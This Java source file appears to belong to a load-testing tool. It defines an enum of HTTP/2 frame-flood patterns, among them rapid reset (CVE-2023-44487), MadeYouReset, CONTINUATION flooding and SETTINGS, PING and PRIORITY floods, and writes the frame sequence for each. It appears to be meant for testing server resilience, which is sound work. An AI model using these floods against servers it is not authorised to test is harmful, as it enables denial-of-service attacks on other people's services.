package io.trilane.loadtest.faults.http2;

/// Frames of which each is right and all are too many.
public enum FloodFrames {
  /// Streams that are opened and reset: rapid reset, CVE-2023-44487.
  RESETS,
  /// Streams that the server must reset: MadeYouReset, CVE-2025-8671.
  PROVOKED_RESETS,
  /// Headers that do not end: CVE-2024-27316.
  CONTINUATION,
  SETTINGS,
  PING,
  PRIORITY,
  /// DATA of no octets, on a stream that stays open.
  EMPTY_DATA;

  /// Writes what stands before the flood on a connection that has sent its SETTINGS.
  void begin(FrameStream frames) {
    switch (this) {
      case EMPTY_DATA -> frames.headers(1, true);
      case CONTINUATION -> frames.headers(1, false);
      case RESETS, PROVOKED_RESETS, SETTINGS, PING, PRIORITY -> {}
    }
  }

  /// Writes a piece of the flood.
  ///
  /// @param stream that no frame has named yet
  void next(FrameStream frames, int stream) {
    switch (this) {
      case RESETS -> {
        frames.headers(stream, true);
        frames.reset(stream);
      }
      case PROVOKED_RESETS -> {
        frames.headers(stream, true);
        frames.roomOfNone(stream);
      }
      case CONTINUATION -> frames.continuation(1);
      case SETTINGS -> frames.settings();
      case PING -> frames.ping();
      case PRIORITY -> frames.priority(stream);
      case EMPTY_DATA -> frames.emptyData(1);
    }
  }
}
